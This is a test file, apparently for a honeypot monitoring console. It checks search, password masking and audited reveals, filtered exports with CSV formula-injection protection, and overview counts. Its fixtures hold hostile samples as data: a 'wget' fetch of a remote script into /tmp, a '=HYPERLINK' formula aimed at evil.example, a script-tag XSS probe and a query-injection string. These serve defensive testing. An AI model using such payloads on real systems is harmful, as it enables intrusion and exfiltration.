import assert from 'node:assert/strict';
import { readFile } from 'node:fs/promises';
import { describe, it } from 'node:test';
import type { Page } from 'playwright-core';
import { toSumLayers } from '../../console/data/activity-layers.ts';
import { toEventExport, toIncidentExport } from '../../console/data/export-query.ts';
import { type ConsoleLab, openConsole, until } from '../support/console/open.ts';

const personal = 'Gartenzwerg#77';
const guess = (n: number, password: string, change: object = {}) => ({
  event_id: `guess-${n}`,
  timestamp: new Date(Date.now() - n * 1000).toISOString(),
  service: 'ssh',
  source_ip: '203.0.113.9',
  activity: 'login_failed',
  payload: `j.doe:${password}`,
  extra: { username: 'j.doe', password, session: 's1' },
  ...change,
});

/** Saves what a menu entry of "Export" sends, and resolves to its text. */
async function exported(page: Page, entry: string | RegExp): Promise<string> {
  await page.getByRole('button', { name: 'Export', exact: true }).click();
  const [file] = await Promise.all([
    page.waitForEvent('download'),
    page.getByRole('menuitem', { name: entry }).click(),
  ]);
  return readFile(await file.path(), 'utf8');
}

const auditKinds = async ({ server, user }: ConsoleLab): Promise<string> =>
  JSON.stringify((await server.call('GET', '/api/audit', { headers: user.headers })).body);

describe('the search', () => {
  it('finds incidents, attackers, nodes and values from any page by /, and says when there is nothing', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/settings');
    await page.getByRole('heading', { name: 'Settings' }).waitFor();
    await page.keyboard.press('/');
    const box = page.getByRole('dialog', { name: /Search/ });
    await box.getByText('Searches incidents, attackers').waitFor();
    await page.keyboard.type('ssh-dmz-1');
    await box.getByRole('option', { name: /ssh-dmz-1.*Node/ }).waitFor();
    await box.getByText('At most five of each kind.').waitFor();
    await lab.check(page);
    await box.getByRole('option', { name: /ssh-dmz-1.*Node/ }).click();
    await page.waitForURL(/\/nodes\/node-/);

    await page.keyboard.press('/');
    const { body } = await lab.server.call<{ items: { source_ip: string }[] }>('GET', '/api/incidents', {
      headers: lab.user.headers,
    });
    const source = body.items[0]?.source_ip ?? '';
    await page.keyboard.type(source);
    await box.getByRole('option', { name: /Attacker/ }).waitFor();
    await box
      .getByRole('option', { name: /Incident/ })
      .first()
      .click();
    await page.waitForURL(/\/incidents\/inc-.*status=all/);
    await page.locator('[data-sentence]').waitFor();

    await page.keyboard.press('/');
    await page.keyboard.type('<script>alert(1)</script>');
    await box.getByText('Nothing else of yours has this name or value.').waitFor();
    await lab.check(page);
  });

  it('speaks German, and f goes to the filter of a list', async (t) => {
    const lab = await openConsole(t);
    const page = await lab.open('/events', { locale: 'de-DE' });
    await page.keyboard.press('f');
    await page.keyboard.type('dragon');
    await page.keyboard.press('Enter');
    await page.waitForURL(/q=dragon/);
    await page.getByRole('heading', { level: 1 }).click();
    await page.keyboard.press('/');
    await page.getByText('Durchsucht Vorfälle, Angreifer').waitFor();
    await page.keyboard.type('ssh-dmz-1');
    await page.getByRole('option', { name: /ssh-dmz-1.*Knoten/ }).waitFor();
    await lab.check(page);
  });
});

describe('observables', () => {
  it('are followed from one to what it occurs with, and masked passwords are revealed on the record', async (t) => {
    const lab = await openConsole(t, { events: [] });
    await lab.send([
      guess(1, '123456'),
      guess(2, '123456', { source_ip: '203.0.113.10', extra: { username: 'j.doe', password: '123456' } }),
      guess(3, personal),
      guess(4, 'x', {
        kind: 'command.run',
        activity: 'command',
        payload: 'cd /tmp; wget http://198.51.100.7/x.sh',
        extra: { session: 's1' },
      }),
    ]);
    const page = await lab.open('/observables');
    const grid = page.getByRole('grid');
    await grid.getByText('j.doe:123456').waitFor();
    assert.ok(!(await page.content()).includes(personal), 'a person’s password is shown');
    await page.getByRole('button', { name: 'Rising' }).click();
    await grid.getByText('7 days before').waitFor();
    await lab.check(page);
    await page.getByRole('button', { name: 'New', exact: true }).click();
    await page.waitForURL(/sort=first_seen/);
    await grid.getByText('j.doe:123456').click();
    const pane = page.getByRole('region', { name: 'Observable', exact: true });
    await pane.getByRole('region', { name: 'Commands', exact: true }).getByText('wget').first().waitFor();
    await lab.check(page);
    await pane.getByRole('region', { name: 'URLs' }).getByText('http://198.51.100.7/x.sh').click();
    await pane.getByRole('link', { name: 'Search its events' }).click();
    await page.waitForURL(/\/events\?q=/);
    await page.getByRole('grid').getByText('wget').first().waitFor();

    await page.goto(`${lab.server.address}/console/observables?kind=password`);
    await grid.getByText('••••••••').click();
    assert.ok(!(await auditKinds(lab)).includes('reveal'));
    await pane.getByRole('button', { name: 'Show the password' }).click();
    await pane.getByText(personal).waitFor();
    await lab.check(page);
    assert.match(await auditKinds(lab), /reveal/);
    assert.ok(!(await auditKinds(lab)).includes(personal));

    // The file masks it, too, unless it is asked for.
    assert.match(await exported(page, /^CSV, safe/), /••••••••/);
    assert.ok((await exported(page, /^NDJSON with passwords/)).includes(personal));
    const attacker = await lab.open('/attackers/203.0.113.9');
    await attacker
      .getByText(/password guess/)
      .first()
      .waitFor();
  });
});

describe('exports of lists', () => {
  it('have exactly what the filters leave', async (t) => {
    const lab = await openConsole(t, { events: [] });
    await lab.send([
      guess(1, 'one'),
      guess(2, 'two', { service: 'telnet' }),
      guess(3, '=HYPERLINK("https://evil.example","x")', { source_ip: '203.0.113.10' }),
    ]);
    const page = await lab.open('/events?source=203.0.113.9&service=ssh');
    const lines = (await exported(page, /^NDJSON, one/)).trim().split('\n');
    assert.deepEqual(
      lines.map((line) => (JSON.parse(line) as { payload: string }).payload),
      ['j.doe:one'],
    );
    await page.goto(`${lab.server.address}/console/events`);
    const csv = await exported(page, /^CSV, safe/);
    assert.equal(csv.trim().split('\r\n').length, 4);
    assert.doesNotMatch(csv, /(^|,)"?=HYPERLINK/m);
    for (const path of ['/incidents', '/attackers', '/sessions', '/deliveries']) {
      await page.goto(`${lab.server.address}/console${path}`);
      await page.getByRole('button', { name: 'Export', exact: true }).waitFor();
      assert.match(await exported(page, /^CSV, safe/), /^[a-z_.,]+\r\n/);
    }
    await lab.check(page);
  });

  it('ask in a query that the server reads, whatever the filters hold', async (t) => {
    const lab = await openConsole(t, { events: [] });
    const odd = 'a" OR risk>=0 \\';
    const queries = {
      events: toEventExport({
        q: 'ssh OR telnet',
        source: '203.0.113.9',
        service: odd,
        attack_type: 'BruteForce',
        node_id: odd,
        session: odd,
        alert_id: odd,
        min_risk: '7',
        from: '2026-11-01T10:00:00.000Z',
        to: '2026-11-02T10:00:00.000Z',
      }),
      incidents: toIncidentExport(
        { status: 'open', open: true, assignee: odd, source: odd, node_id: odd, min_risk: '7' },
        'BruteForce',
      ),
    };
    for (const [list, q = ''] of Object.entries(queries)) {
      const { status, body } = await lab.server.call(
        'GET',
        `/api/${list}/export?q=${encodeURIComponent(q)}`,
        {
          headers: lab.user.headers,
        },
      );
      assert.equal(status, 200, `${q}: ${JSON.stringify(body)}`);
    }
  });
});

describe('the overview', () => {
  it('is exact where there are more events than can be read at once', async (t) => {
    const lab = await openConsole(t, { events: [] });
    const count = 1234;
    await lab.send(Array.from({ length: count }, (_, n) => guess(n, 'admin')));
    const page = await lab.open('/');
    await page.getByText(`1,234 events, counted by whole hours`).waitFor();
    await page.getByRole('list', { name: 'What they try' }).getByText('j.doe:admin').waitFor();
    await until(async () =>
      ((await page.getByRole('list', { name: 'Where from' }).textContent()) ?? '').includes('1,234'),
    );
    await lab.check(page);
  });

  it('draws what is no great type as the rest, and loses no event', () => {
    const counts = { a: 9, b: 8, c: 7, d: 6, e: 5, other: 4 };
    const { layers, times } = toSumLayers({
      buckets: [{ start: '2026-11-01T00:00:00.000Z', events: 39, high_risk: 0, alerts: 0, counts }],
    });
    assert.deepEqual(
      layers.map(({ type, values }) => [type, values[0]]),
      [
        ['a', 9],
        ['b', 8],
        ['c', 7],
        ['d', 6],
        [null, 9],
      ],
    );
    assert.equal(times.length, 1);
    assert.deepEqual(toSumLayers({ buckets: [] }), { layers: [], times: [] });
  });
});
